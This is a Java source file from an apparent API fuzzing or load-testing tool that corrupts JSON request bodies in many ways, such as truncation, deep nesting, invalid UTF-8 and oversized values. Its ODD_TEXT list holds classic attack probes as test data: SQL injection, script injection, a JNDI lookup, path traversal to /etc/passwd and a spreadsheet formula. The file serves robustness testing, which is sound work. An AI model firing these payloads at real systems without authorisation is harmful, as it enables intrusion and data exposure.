package io.vigil.load.abuse;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Spoils a JSON body (or any text body) as {@link Mutation} names, at the text level so that what is
 * sent is exactly what a careless or hostile client could send: no JSON library smooths it over.
 * Every choice comes from the given random source, so a seed repeats a run.
 */
public final class JsonMutations {

    private static final Pattern STRING_VALUE = Pattern.compile(":\\s*\"((?:[^\"\\\\]|\\\\.)*)\"");
    private static final Pattern NUMBER_VALUE = Pattern.compile(":\\s*(-?\\d+(?:\\.\\d+)?)");
    private static final Pattern ANY_VALUE = Pattern.compile(":\\s*(\"(?:[^\"\\\\]|\\\\.)*\"|-?\\d+(?:\\.\\d+)?|true|false"
            + "|null)");
    private static final Pattern KEY = Pattern.compile("\"([^\"\\\\]+)\"\\s*:");

    static final String[] WRONG_VALUES = {"0", "-1", "true", "false", "[]", "{}", "[1,2,3]", "{\"a\":1}", "\"\"",
        "\"x\"", "12.5", "[\"a\",null]", "{\"\":\"\"}"};
    static final String[] ODD_TEXT = {"\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\u202Eevil\u202C",
        "e\u0301\u0301\u0301\u0301\u0301", "\\u0000", "\\uD800", "\\uDFFF\\uD800", "\u0000", "\uFEFFbom", "\u00A0\u2028\u2029",
        "' OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://x.invalid/a}", "%s%n%x", "../../../etc/passwd",
        "=HYPERLINK(\\\"http://x.invalid\\\")", "\u0130\u0131\u00DF\uFB01", "\u4F60\u597D\u0645\u0631\u062D\u0628\u0627",
        "\\\\", "\\\"", "\\n\\r\\t"};
    static final String[] BIG_NUMBERS = {"1e309", "-1e309", "9223372036854775808", "-9223372036854775809",
        "99999999999999999999999999999999999999", "2147483648", "-2147483649", "1e-400", "0.0000000000000000000001",
        "-0", "1E+2147483647", "4.9e-325", "123456789012345678901234567890.5"};

    private JsonMutations() {
    }

    /** The body {@code sample} spoilt by {@code mutation}; mutations that are not about the body return it as it is. */
    public static byte[] body(String sample, Mutation mutation, SplittableRandom random) {
        return switch (mutation) {
            case TRUNCATED -> utf8(sample.isEmpty() ? "{" : sample.substring(0, random.nextInt(sample.length())));
            case WRONG_TYPES -> utf8(replaceValue(sample, ANY_VALUE, pick(WRONG_VALUES, random), random));
            case HUGE_STRING -> utf8(replaceValue(sample, ANY_VALUE, "\"" + huge(random) + "\"", random));
            case DEEP_NESTING -> utf8(deep(sample, random));
            case INVALID_UTF8 -> invalidUtf8(sample, random);
            case DUPLICATE_KEYS -> utf8(duplicateKey(sample, random));
            case NULLS -> utf8(random.nextInt(4) == 0 ? "null" : replaceValue(sample, ANY_VALUE, "null", random));
            case UNICODE -> utf8(replaceValue(sample, STRING_VALUE, pick(ODD_TEXT, random), random, true));
            case NUMBERS_OUT_OF_RANGE -> utf8(replaceValue(sample, NUMBER_VALUE.matcher(sample).find() && random
                    .nextBoolean() ? NUMBER_VALUE : ANY_VALUE, pick(BIG_NUMBERS, random), random));
            case GARBAGE -> garbage(random, 1 + random.nextInt(2048));
            case EMPTY -> new byte[0];
            case OVERSIZED -> oversized(sample, random);
            default -> utf8(sample);
        };
    }

    /** Random bytes, any value at all. */
    public static byte[] garbage(SplittableRandom random, int length) {
        byte[] bytes = new byte[length];
        for (int i = 0; i < length; i++) {
            bytes[i] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    /** A string of 10,000 to 1,000,000 characters, sometimes not ASCII. */
    static String huge(SplittableRandom random) {
        int length = random.nextInt(4) == 0 ? 200_000 + random.nextInt(800_000) : 10_000 + random.nextInt(40_000);
        String unit = random.nextBoolean() ? "A" : random.nextBoolean() ? "\u00e9" : "\uD83D\uDE00";
        return unit.repeat(Math.max(1, length / unit.length()));
    }

    static <T> T pick(T[] choices, SplittableRandom random) {
        return choices[random.nextInt(choices.length)];
    }

    private static String replaceValue(String sample, Pattern pattern, String replacement, SplittableRandom random) {
        return replaceValue(sample, pattern, replacement, random, false);
    }

    /** Replaces one value matched by {@code pattern} (group 1); {@code inside} keeps the quotes of a string value. */
    private static String replaceValue(String sample, Pattern pattern, String replacement, SplittableRandom random,
            boolean inside) {
        List<int[]> spans = new ArrayList<>();
        Matcher m = pattern.matcher(sample);
        while (m.find()) {
            spans.add(new int[] {m.start(1), m.end(1)});
        }
        if (spans.isEmpty()) {
            return inside ? "\"" + replacement + "\"" : replacement;
        }
        int[] span = spans.get(random.nextInt(spans.size()));
        return sample.substring(0, span[0]) + replacement + sample.substring(span[1]);
    }

    private static String duplicateKey(String sample, SplittableRandom random) {
        List<String> keys = new ArrayList<>();
        Matcher m = KEY.matcher(sample);
        while (m.find()) {
            keys.add(m.group(1));
        }
        int open = sample.indexOf('{');
        if (keys.isEmpty() || open < 0) {
            return "{\"a\":1,\"a\":2}";
        }
        String key = keys.get(random.nextInt(keys.size()));
        String value = random.nextBoolean() ? pick(WRONG_VALUES, random) : "\"" + pick(ODD_TEXT, random) + "\"";
        // Before and after the original: first-wins and last-wins readers both see the duplicate.
        return sample.substring(0, open + 1) + "\"" + key + "\":" + value + ","
                + sample.substring(open + 1, sample.lastIndexOf('}')) + ",\"" + key + "\":" + value + "}";
    }

    private static String deep(String sample, SplittableRandom random) {
        int depth = random.nextInt(3) == 0 ? 10_000 + random.nextInt(90_000) : 500 + random.nextInt(4_500);
        StringBuilder out = new StringBuilder(depth * 6 + sample.length());
        boolean arrays = random.nextBoolean();
        if (random.nextBoolean()) {
            // Nested inside one value of the sample, or around the whole of it.
            Matcher m = ANY_VALUE.matcher(sample);
            if (m.find()) {
                out.append(sample, 0, m.start(1));
                nest(out, depth, arrays, m.group(1));
                out.append(sample, m.end(1), sample.length());
                return out.toString();
            }
        }
        nest(out, depth, arrays, sample.isBlank() ? "1" : sample);
        return out.toString();
    }

    private static void nest(StringBuilder out, int depth, boolean arrays, String inner) {
        out.append((arrays ? "[" : "{\"a\":").repeat(depth)).append(inner).append((arrays ? "]" : "}").repeat(depth));
    }

    private static byte[] invalidUtf8(String sample, SplittableRandom random) {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF},
            {(byte) 0xE2, (byte) 0x82}, {(byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};
        Matcher m = STRING_VALUE.matcher(sample);
        List<Integer> at = new ArrayList<>();
        while (m.find()) {
            at.add(m.start(1));
        }
        int cut = at.isEmpty() ? random.nextInt(sample.length() + 1) : at.get(random.nextInt(at.size()));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(sample.substring(0, cut)));
        out.writeBytes(bad[random.nextInt(bad.length)]);
        out.writeBytes(utf8(sample.substring(cut)));
        return out.toByteArray();
    }

    private static byte[] oversized(String sample, SplittableRandom random) {
        String filler = "x".repeat(4 * 1024 * 1024 + 1024 + random.nextInt(1024));
        return utf8(replaceValue(sample, STRING_VALUE, filler, random, true));
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
